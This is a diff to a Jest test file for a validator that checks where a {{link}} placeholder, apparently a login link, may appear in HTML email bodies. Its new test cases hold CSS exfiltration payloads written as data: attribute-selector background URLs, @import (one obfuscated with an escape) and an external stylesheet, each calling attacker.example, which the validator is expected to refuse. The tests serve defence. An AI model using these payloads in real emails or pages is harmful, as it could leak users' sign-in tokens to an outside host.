@@ -18,6 +18,7 @@ describe('misplacedLinkInHtml', () => {
     '<p><a href="{{link}}">{{link}}</a></p>',
     '<p>&lt;{{link}}&gt;</p>',
     '{{link}}',
+    '<style>p { color: #333 } a.button { background: url(https://cdn.example/b.png) }</style><a class="button" href="{{link}}">In</a>',
     '<p>Expires in {{minutes}} min</p><table><tr><td><a href="{{link}}">In</a></td></tr></table><p>{{link}}</p>',
   ])('when the body is %s, then the link is in place', (body) => {
     expect(misplacedLinkInHtml(body, samples)).toEqual([]);
@@ -52,6 +53,17 @@ describe('misplacedLinkInHtml', () => {
     expect(faults).toHaveLength(1);
     expect(faults[0]).toContain('{{link}} may stand only as the whole href of an <a> element or as text of its own');
     expect(faults[0]).toContain(where);
+  });
+
+  it.each([
+    '<style>a[href*="k3"] { background: url(https://attacker.example/k3) }</style><a href="{{link}}">In</a>',
+    '<style>@import url(https://attacker.example/read.css);</style><a href="{{link}}">In</a>',
+    '<style>@\\69mport url(https://attacker.example/read.css);</style><a href="{{link}}">In</a>',
+    '<style>a[href*="k3"] { background: url(https://attacker.example/k3) }<a href="{{link}}">In</a>',
+    '<link rel="stylesheet" href="https://attacker.example/read.css"><a href="{{link}}">In</a>',
+  ])('when the body is %s, then CSS that could read the link is refused', (body) => {
+    const faults = misplacedLinkInHtml(body, samples);
+    expect(faults).toEqual(expect.arrayContaining([expect.stringContaining('CSS could read the link')]));
   });
 
   it('when one link is in place and another is not, then the misplaced one is refused', () => {
